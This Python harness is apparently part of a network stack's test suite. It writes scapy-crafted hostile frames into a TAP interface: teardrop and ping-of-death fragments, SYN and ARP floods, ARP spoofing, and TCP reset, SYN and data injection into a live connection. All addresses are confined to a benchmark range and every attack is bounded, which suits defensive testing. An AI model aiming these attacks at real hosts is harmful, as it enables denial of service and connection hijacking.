#!/usr/bin/env python3
"""Hostile traffic against the stack, from the kernel side of its TAP
(test/kernel/Hostile.test.ts, issue 10). Frames are crafted with scapy and
written to the namespace's end of the TAP through an AF_PACKET socket bound
to it, so they reach the stack exactly as built (bad checksums and lengths
included) and go nowhere else.

Network safety: every IPv4 address this script writes into a packet, as
source or destination, lies in 198.18.0.0/15 (`bench` checks each one and
aborts otherwise); spoofed sources are 198.18.0.10-250, on the TAP's /24,
so the stack has a route back. Every attack is bounded in packets and in
seconds and stops by itself.

  attacks.py serve IFACE STACK_IP STACK_MAC

reads one JSON command per line on stdin and answers one JSON line each:
  {"attack": NAME, "count": N, "seconds": S, "conn": {"port": P, "stackPort": Q}}
  -> {"attack": NAME, "sent": frames written, "refused": frames the socket
      refused, "seen": what the sniffer saw the stack send back, ...}
"""
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import threading
import time

from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Raw

BENCH = ipaddress.ip_network("198.18.0.0/15")
ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4


def bench(addr):
    """Abort unless addr lies in 198.18.0.0/15 (the network-safety rule)."""
    if ipaddress.ip_address(addr) not in BENCH:
        sys.stderr.write("network-safety rule: %s is outside 198.18.0.0/15\n" % addr)
        sys.exit(3)
    return addr


class World:
    def __init__(self, iface, stack_ip, stack_mac):
        self.iface = iface
        self.stack_ip = bench(stack_ip)
        self.stack_mac = stack_mac.lower()
        with open("/sys/class/net/%s/address" % iface) as f:
            self.my_mac = f.read().strip()
        self.my_ip = None
        for line in os.popen("ip -4 -o addr show dev %s" % iface).read().splitlines():
            self.my_ip = bench(line.split()[3].split("/")[0])
        self.tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.tx.bind((iface, 0))
        self.rng = random.Random(0x5CA9)

    def eth(self, src_mac=None, dst_mac=None):
        return Ether(src=src_mac or self.my_mac, dst=dst_mac or self.stack_mac)

    def ip(self, src=None, dst=None, **kw):
        return IP(src=bench(src or self.my_ip), dst=bench(dst or self.stack_ip), **kw)

    def spoofed(self, i):
        return "198.18.0.%d" % (10 + i % 241)

    def random_mac(self):
        # locally administered unicast
        return "02:%02x:%02x:%02x:%02x:%02x" % tuple(self.rng.randrange(256) for _ in range(5))


class Sniffer:
    """What the stack sends back on the TAP while an attack runs, counted from
    raw frames in a thread (parsing with scapy would not keep up)."""

    def __init__(self, w, conn=None):
        self.w = w
        self.conn = conn
        self.counts = {"frames": 0, "tcpRst": 0, "tcpSynAck": 0, "connPureAcks": 0, "connData": 0,
                       "icmpEchoReplies": 0, "icmpErrors": 0, "arpRequests": 0, "arpReplies": 0}
        self.last_conn = None  # (seq_end, ack, window) of the last segment the stack sent on the connection
        self.stop = threading.Event()
        self.ready = threading.Event()
        self.rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.rx.bind((w.iface, 0))
        self.rx.settimeout(0.1)
        self.stack_mac = bytes.fromhex(w.stack_mac.replace(":", ""))
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        c = self.counts
        while not self.stop.is_set():
            try:
                b, addr = self.rx.recvfrom(1 << 17)
            except socket.timeout:
                continue
            if addr[2] == PACKET_OUTGOING or b[6:12] != self.stack_mac:
                continue
            c["frames"] += 1
            et = struct.unpack("!H", b[12:14])[0]
            if et == 0x0806 and len(b) >= 22:
                op = struct.unpack("!H", b[20:22])[0]
                c["arpRequests" if op == 1 else "arpReplies"] += 1
                continue
            if et != 0x0800 or len(b) < 34:
                continue
            ihl = (b[14] & 0x0F) * 4
            total = struct.unpack("!H", b[16:18])[0]
            proto = b[23]
            t = 14 + ihl
            if proto == 1 and len(b) > t:
                if b[t] == 0:
                    c["icmpEchoReplies"] += 1
                elif b[t] in (3, 11, 12):
                    c["icmpErrors"] += 1
            elif proto == 6 and len(b) >= t + 20:
                sport, dport, seq, ack, off, flags, win = struct.unpack("!HHIIBBH", b[t:t + 16])
                doff = (off >> 4) * 4
                payload = total - ihl - doff
                if flags & 0x04:
                    c["tcpRst"] += 1
                if flags & 0x12 == 0x12:
                    c["tcpSynAck"] += 1
                if self.conn is not None and sport == self.conn["stackPort"] and dport == self.conn["port"]:
                    self.last_conn = ((seq + payload) & 0xFFFFFFFF, ack, win)
                    self.ready.set()
                    if payload == 0 and flags & 0x17 == 0x10:
                        c["connPureAcks"] += 1
                    elif payload > 0:
                        c["connData"] += 1

    def close(self):
        self.stop.set()
        self.thread.join(2)
        self.rx.close()


def blast(w, frames, count, seconds, pace=0.0):
    """Write frames (an iterator of bytes) until count or seconds run out."""
    sent = refused = 0
    end = time.monotonic() + seconds
    for f in frames:
        if sent + refused >= count or time.monotonic() >= end:
            break
        try:
            w.tx.send(f)
            sent += 1
        except OSError:
            refused += 1
        if pace:
            time.sleep(pace)
    return sent, refused


def flood(w, frames, count, seconds):
    """Write `count` frames (taken from the iterator first), spread evenly
    over `seconds`. A flood's checks need its numbers (more ARP requests or
    SYNs than the cache or the SYN queue holds, more incomplete datagrams
    than reassembly keeps), and building frames with scapy while writing them
    made the rate scapy's: on a busy machine (two CPU hogs and other test
    files beside it) about 280 frames/s, 422-508 ARP requests of the 1024 the
    check needs in the 2 s, three runs of three failing. Built beforehand,
    the frames go at count/seconds on a busy machine too; if the writes fall
    behind, they go as fast as they can until `seconds` + 10 s."""
    built = []
    for f in frames:
        if len(built) >= count:
            break
        built.append(f)
    sent = refused = 0
    start = time.monotonic()
    for n, f in enumerate(built):
        now = time.monotonic()
        if now >= start + seconds + 10:
            break
        due = start + seconds * n / len(built)
        if due > now:
            time.sleep(due - now)
        try:
            w.tx.send(f)
            sent += 1
        except OSError:
            refused += 1
    return sent, refused


def cycle(builders):
    """Round-robin over builder functions forever (blast bounds it)."""
    i = 0
    while True:
        yield builders[i % len(builders)](i)
        i += 1


# --------------------------------------------------------------------------
# frame-level attacks


def garbage(w, a):
    r = w.rng

    def short(i):  # shorter than an Ethernet header (the kernel pads what it must)
        return bytes(r.randrange(256) for _ in range(r.randrange(1, 14)))

    def random_type(i):  # to our MAC, an EtherType nobody binds
        return bytes(w.eth() / Raw(os.urandom(r.randrange(0, 200))))[:12] + struct.pack("!H", r.choice([0x86DD, 0x88CC, 0x1234, 0x8100])) + os.urandom(r.randrange(0, 200))

    def ip_garbage(i):  # EtherType IPv4, random octets
        return bytes(w.eth()) [:12] + b"\x08\x00" + os.urandom(r.randrange(0, 80))

    def arp_garbage(i):
        return bytes(w.eth())[:12] + b"\x08\x06" + os.urandom(r.randrange(0, 40))

    def cut_ip(i):  # a sound ICMP echo request cut anywhere
        b = bytes(w.eth() / w.ip() / ICMP(id=0x4242, seq=i) / Raw(b"x" * 64))
        return b[:r.randrange(14, len(b))]

    def broadcast_garbage(i):
        return b"\xff" * 6 + bytes.fromhex(w.my_mac.replace(":", "")) + b"\x08\x00" + os.urandom(r.randrange(20, 100))

    return blast(w, cycle([short, random_type, ip_garbage, arp_garbage, cut_ip, broadcast_garbage]), a["count"], a["seconds"])


def badcsum(w, a):
    def ip_sum(i):
        return bytes(w.eth() / w.ip(chksum=0xDEAD) / ICMP(id=0x4243, seq=i) / Raw(b"y" * 32))

    def icmp_sum(i):
        return bytes(w.eth() / w.ip() / ICMP(id=0x4244, seq=i, chksum=0xBEEF) / Raw(b"y" * 32))

    def tcp_sum(i):  # a SYN to the echo port that must not open anything
        return bytes(w.eth() / w.ip() / TCP(sport=20000 + i % 1000, dport=a["port"], flags="S", seq=i, chksum=0x1234))

    def udp_sum(i):
        return bytes(w.eth() / w.ip() / UDP(sport=30000, dport=9, chksum=0x4321) / Raw(b"z" * 16))

    return blast(w, cycle([ip_sum, icmp_sum, tcp_sum, udp_sum]), a["count"], a["seconds"])


def fix(b):
    """Recompute the IPv4 header checksum of frame b after a change, so only the change is wrong."""
    ihl = (b[14] & 0x0F) * 4
    b[24:26] = b"\x00\x00"
    end = min(len(b), 14 + max(ihl, 20))
    s = sum(struct.unpack("!%dH" % ((end - 14) // 2), bytes(b[14:end])))
    while s > 0xFFFF:
        s = (s & 0xFFFF) + (s >> 16)
    b[24:26] = struct.pack("!H", ~s & 0xFFFF)
    return bytes(b)


def badlen(w, a):
    def sound(i):
        return bytearray(bytes(w.eth() / w.ip(id=i & 0xFFFF) / ICMP(id=0x4245, seq=i) / Raw(b"w" * 48)))

    def ihl_small(i):
        b = sound(i)
        b[14] = 0x40 | (i % 5)  # IHL 0..4
        return fix(b)

    def ihl_past_frame(i):
        b = sound(i)[:14 + 24]  # 24 octets of frame, IHL 15 (60)
        b[14] = 0x4F
        return fix(b)

    def total_below_header(i):
        b = sound(i)
        b[16:18] = struct.pack("!H", i % 20)
        return fix(b)

    def total_past_frame(i):
        b = sound(i)
        b[16:18] = struct.pack("!H", len(b) - 14 + 1 + (i % 60000))
        return fix(b)

    def tcp_doff(i):  # TCP data offset below 5 or past the segment
        b = bytearray(bytes(w.eth() / w.ip() / TCP(sport=21000, dport=a["port"], flags="S")))
        b[14 + 20 + 12] = ((i % 5) if i % 2 else 15) << 4
        return bytes(b)

    def udp_len(i):  # UDP length beyond the datagram
        return bytes(w.eth() / w.ip() / UDP(sport=30001, dport=9, len=200) / Raw(b"u" * 8))

    return blast(w, cycle([ihl_small, ihl_past_frame, total_below_header, total_past_frame, tcp_doff, udp_len]), a["count"], a["seconds"])


def ipopts(w, a):
    """IPv4 options a host refuses, in echo requests from the kernel's own address: lengths below 2
    or past the header (each dropped; a Parameter Problem answers, within the ICMP rate limits) and
    loose or strict source routes (dropped silently). The routes name 198.18.0.99."""
    options = [b"\x44\x00\x00\x00", b"\x07\x09\x04\x00", b"\x01\x01\x01\x07",
               b"\x83\x07\x04\xc6\x12\x00\x63\x00", b"\x89\x07\x04\xc6\x12\x00\x63\x00"]

    def echo(i):
        opts = options[i % len(options)]
        b = bytearray(bytes(w.eth() / w.ip(id=i & 0xFFFF) / ICMP(id=0x4247, seq=i) / Raw(b"o" * 16)))
        b[34:34] = opts  # after the 20-octet header; IHL, total length and checksum follow
        b[14] = 0x40 | ((20 + len(opts)) // 4)
        b[16:18] = struct.pack("!H", len(b) - 14)
        return fix(b)

    return blast(w, cycle([echo]), a["count"], a["seconds"])


def ttl0(w, a):
    def echo(i):
        return bytes(w.eth() / w.ip(ttl=i % 2) / ICMP(id=0x4246, seq=i) / Raw(b"t" * 32))

    return blast(w, cycle([echo]), a["count"], a["seconds"], pace=0.001)


# --------------------------------------------------------------------------
# fragments


def frag(w, ident, offset, data, more, proto=1, src=None):
    """One fragment: `data` at octet `offset` of the datagram's payload."""
    return bytes(w.eth() / w.ip(src=src, id=ident, frag=offset // 8, flags="MF" if more else 0, proto=proto) / Raw(data))


def echo_payload(ident, n):
    return bytes(ICMP(id=0x4247, seq=ident) / Raw(bytes(i & 0xFF for i in range(n))))


def frames_of(gen_datagram, count):
    i = 0
    while True:
        for f in gen_datagram(i):
            yield f
        i += 1


def overlap(w, a):
    def datagram(i):
        ident = 0x1000 + i
        p = echo_payload(ident, 120)
        if i % 2 == 0:  # a second fragment that rewrites part of the first
            return [frag(w, ident, 0, p[:64], True), frag(w, ident, 32, os.urandom(64), True), frag(w, ident, 96, p[96:], False)]
        # RFC 1858's attack: a TCP header in fragment zero, its flags rewritten at offset 8
        seg = bytes(TCP(sport=22000, dport=a["port"], flags="A", seq=1, ack=1))
        evil = bytearray(seg[8:])
        evil[5] = 0x02  # SYN
        return [frag(w, ident, 0, seg[:16], True, proto=6), frag(w, ident, 8, bytes(evil), False, proto=6)]

    return blast(w, frames_of(datagram, a["count"]), a["count"], a["seconds"])


def teardrop(w, a):
    def datagram(i):
        ident = 0x2000 + i
        p = echo_payload(ident, 64)
        # the last fragment ends inside the first (the teardrop), or starts before it ends (bonk)
        if i % 2 == 0:
            return [frag(w, ident, 0, p[:48], True), frag(w, ident, 24, p[24:32], False)]
        return [frag(w, ident, 0, p[:48], True), frag(w, ident, 40, os.urandom(3), False)]

    return blast(w, frames_of(datagram, a["count"]), a["count"], a["seconds"])


def tiny(w, a):
    def datagram(i):
        ident = 0x3000 + i
        p = echo_payload(ident, 72)  # 80 octets: ten fragments of 8
        fs = [frag(w, ident, o, p[o:o + 8], o + 8 < len(p)) for o in range(0, len(p), 8)]
        if i % 2:
            fs.reverse()
        return fs

    return blast(w, frames_of(datagram, a["count"]), a["count"], a["seconds"])


def oversize(w, a):
    def datagram(i):
        ident = 0x4000 + i
        chunk = os.urandom(1480)
        fs = [frag(w, ident, o, chunk, True) for o in range(0, 1480 * 4, 1480)]
        # the ping of death: data running past octet 65 535 of the datagram
        fs.append(frag(w, ident, 65528, os.urandom(100), False))
        return fs

    return blast(w, frames_of(datagram, a["count"]), a["count"], a["seconds"])


def fragflood(w, a):
    """Incomplete datagrams from many sources: fragments spread over the
    whole 64 KiB with gaps, never the last one, so each assembly holds as
    much as a few fragments can make it."""
    r = w.rng
    chunk = os.urandom(1480)

    def datagram(i):
        src = w.spoofed(i)
        ident = r.randrange(65536)
        return [frag(w, ident, o, chunk, True, src=src) for o in range(1480 * (i % 2), 63000, 2960 * 2)]

    return flood(w, frames_of(datagram, a["count"]), a["count"], a["seconds"])


# --------------------------------------------------------------------------
# TCP


def synflood(w, a):
    r = w.rng

    def syn(i):
        return bytes(w.eth() / w.ip(src=w.spoofed(i)) / TCP(sport=1024 + r.randrange(60000), dport=a["port"], flags="S",
                                                            seq=r.randrange(1 << 32), options=[("MSS", 1460)]))

    return flood(w, cycle([syn]), a["count"], a["seconds"])


def conn_rounds(w, a, sniffer, build, per_round=40):
    """Inject against the live connection in rounds: each takes the stack's
    latest segment on it (its SND.NXT, and its ACK: our RCV.NXT) from the
    sniffer and writes `per_round` frames built from them."""
    if not sniffer.ready.wait(3):
        return 0, 0
    sent = refused = 0
    end = time.monotonic() + a["seconds"]
    i = 0
    while sent + refused < a["count"] and time.monotonic() < end:
        snd_nxt, rcv_nxt, _ = sniffer.last_conn
        batch = [build(i + k, snd_nxt, rcv_nxt) for k in range(per_round)]
        s, f = blast(w, iter(batch), a["count"] - sent - refused, end - time.monotonic())
        sent += s
        refused += f
        i += per_round
        time.sleep(0.02)
    return sent, refused


def seg(w, a, **kw):
    c = a["conn"]
    return w.eth() / w.ip() / TCP(sport=c["port"], dport=c["stackPort"], **kw)


def inject_rst(w, a, sniffer):
    # kind "in": in the stack's receive window but not RCV.NXT (a challenge
    # ACK, RFC 5961 §3.2); "out": outside it (dropped silently); "csum": at
    # RCV.NXT exactly, which would reset, but with a bad checksum
    kind = a["kind"]

    def build(i, snd_nxt, rcv_nxt):
        if kind == "in":
            return bytes(seg(w, a, flags="R", seq=(rcv_nxt + 1 + 97 * (i % 400)) & 0xFFFFFFFF))
        if kind == "out":
            return bytes(seg(w, a, flags="RA", seq=(rcv_nxt + (1 << 30) + i) & 0xFFFFFFFF, ack=snd_nxt))
        return bytes(seg(w, a, flags="R", seq=rcv_nxt, chksum=0x0BAD))

    return conn_rounds(w, a, sniffer, build)


def inject_syn(w, a, sniffer):
    kind = a["kind"]

    def build(i, snd_nxt, rcv_nxt):
        off = 1 + 97 * (i % 400) if kind == "in" else (1 << 30) + i
        return bytes(seg(w, a, flags="S", seq=(rcv_nxt + off) & 0xFFFFFFFF, options=[("MSS", 536)]))

    return conn_rounds(w, a, sniffer, build)


def inject_data(w, a, sniffer):
    # "out": data outside the receive window (dropped, an ACK sent);
    # "in": at RCV.NXT or ahead of it in the window, but with an ACK field
    # no peer could send (data never sent, or older than the window):
    # dropped (RFC 9293 §3.10.7.4, RFC 5961 §5.2); or without ACK at all;
    # "dup": the last 64 octets before RCV.NXT again, with a sound ACK, as a
    # spurious retransmission would bring them (different octets: taking them
    # would show in the stream): dropped, and the ACK says so in a D-SACK
    # block (RFC 2883), which the kernel's TCP counts (TcpExt TCPDSACKRecv).
    kind = a["kind"]
    junk = b"INJECTED" * 16

    def build(i, snd_nxt, rcv_nxt):
        if kind == "out":
            return bytes(seg(w, a, flags="PA", seq=(rcv_nxt - (1 << 30) + i) & 0xFFFFFFFF, ack=snd_nxt) / Raw(junk))
        if kind == "dup":
            return bytes(seg(w, a, flags="PA", seq=(rcv_nxt - 64) & 0xFFFFFFFF, ack=snd_nxt) / Raw(junk[:64]))
        m = i % 3
        seq = rcv_nxt if i % 2 == 0 else (rcv_nxt + 8192) & 0xFFFFFFFF
        if m == 0:
            return bytes(seg(w, a, flags="PA", seq=seq, ack=(snd_nxt + (1 << 30)) & 0xFFFFFFFF) / Raw(junk))
        if m == 1:
            return bytes(seg(w, a, flags="PA", seq=seq, ack=(snd_nxt - (1 << 30)) & 0xFFFFFFFF) / Raw(junk))
        return bytes(seg(w, a, flags="P", seq=seq) / Raw(junk))

    return conn_rounds(w, a, sniffer, build)


def ackflood(w, a, sniffer):
    r = w.rng

    def build(i, snd_nxt, rcv_nxt):
        m = i % 4
        if m == 0:  # on the connection: ACK fields from anywhere
            return bytes(seg(w, a, flags="A", seq=rcv_nxt, ack=r.randrange(1 << 32)))
        if m == 1:  # on the connection: a duplicate of what it has acknowledged
            return bytes(seg(w, a, flags="A", seq=rcv_nxt, ack=snd_nxt))
        # to the listener and to nowhere, from spoofed sources
        return bytes(w.eth() / w.ip(src=w.spoofed(i)) / TCP(sport=1024 + r.randrange(60000),
                                                            dport=a["conn"]["stackPort"] if m == 2 else 9999,
                                                            flags="A", seq=r.randrange(1 << 32), ack=r.randrange(1 << 32)))

    return conn_rounds(w, a, sniffer, build, per_round=200)


# --------------------------------------------------------------------------
# ARP


def arpflood(w, a):
    r = w.rng
    hosts = list(ipaddress.ip_network("198.18.0.0/15").hosts())

    def request(i):  # "who has the stack?" from an address and MAC never seen before
        mac = w.random_mac()
        src = str(hosts[(i * 7919 + 10) % len(hosts)])
        if src in (w.stack_ip, w.my_ip):
            src = w.spoofed(i)
        return bytes(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=mac, psrc=bench(src), pdst=w.stack_ip))

    def gratuitous(i):
        mac = w.random_mac()
        src = w.spoofed(i)
        return bytes(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=mac, psrc=bench(src), hwdst="ff:ff:ff:ff:ff:ff", pdst=bench(src)))

    return flood(w, cycle([request, request, request, gratuitous]), a["count"], a["seconds"])


def arpspoof(w, a):
    """Replies that say the stack's neighbour (the kernel's address here) is
    at another MAC: unicast to the stack as if it had asked, and gratuitous."""
    victim = w.my_ip

    def reply(i):
        mac = w.random_mac()
        if i % 2 == 0:
            return bytes(Ether(src=mac, dst=w.stack_mac) / ARP(op=2, hwsrc=mac, psrc=victim, hwdst=w.stack_mac, pdst=w.stack_ip))
        return bytes(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=mac, psrc=victim, hwdst="ff:ff:ff:ff:ff:ff", pdst=victim))

    return blast(w, cycle([reply]), a["count"], a["seconds"], pace=a.get("pace", 0.02))


ATTACKS = {
    "garbage": garbage, "badcsum": badcsum, "badlen": badlen, "ipopts": ipopts, "ttl0": ttl0,
    "overlap": overlap, "teardrop": teardrop, "tiny": tiny, "oversize": oversize, "fragflood": fragflood,
    "synflood": synflood, "arpflood": arpflood, "arpspoof": arpspoof,
}
CONN_ATTACKS = {"inject-rst": inject_rst, "inject-syn": inject_syn, "inject-data": inject_data, "ackflood": ackflood}


def serve(iface, stack_ip, stack_mac):
    w = World(iface, stack_ip, stack_mac)
    print(json.dumps({"ready": True, "mac": w.my_mac, "ip": w.my_ip}), flush=True)
    for line in sys.stdin:
        if not line.strip():
            continue
        a = json.loads(line)
        a["count"] = min(int(a.get("count", 1000)), 100000)
        a["seconds"] = min(float(a.get("seconds", 2)), 20.0)
        name = a["attack"]
        sniffer = Sniffer(w, a.get("conn"))
        start = time.monotonic()
        if name in CONN_ATTACKS:
            sent, refused = CONN_ATTACKS[name](w, a, sniffer)
        else:
            sent, refused = ATTACKS[name](w, a)
        elapsed = time.monotonic() - start
        time.sleep(float(a.get("linger", 0.3)))  # the stack's answers to the last frames
        sniffer.close()
        print(json.dumps({"attack": name, "kind": a.get("kind"), "sent": sent, "refused": refused,
                          "seconds": round(elapsed, 3), "seen": sniffer.counts}), flush=True)


if __name__ == "__main__":
    if len(sys.argv) != 5 or sys.argv[1] != "serve":
        sys.exit(__doc__)
    serve(sys.argv[2], sys.argv[3], sys.argv[4])
